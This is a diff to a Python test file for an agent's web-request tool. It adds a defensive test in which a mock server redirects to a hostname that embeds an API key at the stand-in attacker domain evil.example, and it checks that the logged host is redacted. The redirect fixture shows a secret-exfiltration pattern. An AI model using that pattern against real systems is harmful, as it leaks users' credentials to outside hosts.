@@ -17,6 +17,7 @@ from tidegate_tools.web_request.tool import policy_of
 
 LIST = {"allowed_hosts": ["other.example.com"], "report_only": True}
 LOGGER = "tidegate.tools.web_request"
+PASSES = "report_only is on, so this passes:"
 
 
 async def test_what_the_list_refuses_passes_and_is_logged(
@@ -26,7 +27,7 @@ async def test_what_the_list_refuses_passes_and_is_logged(
     mine = agent(Site(), **LIST)
     with caplog.at_level(logging.WARNING, LOGGER):
         await mine.get(f"{URL}path?token=secret")
-    assert caplog.messages == ["report_only is on, so this passes: api.example.com is not in allowed_hosts"]
+    assert caplog.messages == [f"{PASSES} api.example.com is not in allowed_hosts"]
     assert mine.records[0].outcome == "success"
 
 
@@ -52,6 +53,19 @@ async def test_every_hop_is_told(agent: MakeAgent, caplog: pytest.LogCaptureFixt
         await agent(site, **LIST, max_redirects=1).get()
     hosts = [message.partition("passes: ")[2].split()[0] for message in caplog.messages]
     assert hosts == ["api.example.com", "third.example.com"]
+
+
+async def test_a_host_that_is_a_secret_is_logged_without_it(
+    agent: MakeAgent, caplog: pytest.LogCaptureFixture
+) -> None:
+    """W-F3: a server may redirect to a host that holds the credential which it was sent."""
+    key = "sk-live-0123456789"
+    site = Site({URL: redirect(f"https://{key.upper()}.evil.example/")})
+    auth = [{"host": "api.example.com", "headers": {"X-Key": {"env": "KEY"}}}]
+    mine = agent(site, **LIST, auth=auth, max_redirects=1, options={"environment": {"KEY": key}})
+    with caplog.at_level(logging.WARNING, LOGGER):
+        await mine.get()
+    assert caplog.messages[1:] == [f"{PASSES} [redacted].evil.example is not in allowed_hosts"]
 
 
 async def test_the_observer_is_told_as_well(agent: MakeAgent) -> None:
